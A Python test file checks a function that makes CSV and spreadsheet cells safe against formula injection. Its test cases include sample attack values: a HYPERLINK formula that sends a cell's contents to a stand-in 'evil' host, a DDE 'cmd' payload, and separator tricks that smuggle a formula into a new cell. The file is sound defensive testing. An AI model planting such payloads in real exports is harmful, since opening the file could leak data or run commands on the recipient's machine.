"""Text cells made safe for spreadsheets (etl.cells), as an analyst would open a download."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from etl.cells import neutralise, neutralise_frame


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ('=HYPERLINK("http://evil/?leak="&A1,"Click")', "'=HYPERLINK(\"http://evil/?leak=\"&A1,\"Click\")"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        # A separator inside the text would start a new cell holding a formula.
        ("Law,=HYPERLINK(1)", "Law,'=HYPERLINK(1)"),
        ("Law;=cmd|x", "Law;'=cmd|x"),
        ("Law; +x", "Law; '+x"),
        # Ordinary names and numbers stay as they are.
        ("Tax Law", "Tax Law"),
        ("2015-16", "2015-16"),
        ("Universität Konstanz", "Universität Konstanz"),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)  # fmt: skip
def test_neutralise(value, safe):
    assert neutralise(value) == safe


def test_a_frame_keeps_its_numbers_and_neutralises_its_text():
    frame = pd.DataFrame({"name": ["=1+1", "ok", None], "count": [-3, 1, 2]})
    safe = neutralise_frame(frame)
    assert list(safe["name"][:2]) == ["'=1+1", "ok"]
    assert safe["name"].isna().iloc[2]
    assert list(safe["count"]) == [-3, 1, 2]
    assert list(frame["name"][:1]) == ["=1+1"], "the input frame is left alone"


def test_no_cell_of_a_neutralised_csv_starts_a_formula_whatever_the_separator():
    frame = neutralise_frame(pd.DataFrame({"name": ["X;=cmd|x", "Y,@SUM(1)", "-1"]}))
    text = frame.to_csv(index=False)
    for separator in (",", ";"):
        for row in csv.reader(io.StringIO(text), delimiter=separator):
            for cell in row:
                assert not cell.lstrip().startswith(("=", "+", "-", "@")), (separator, cell)
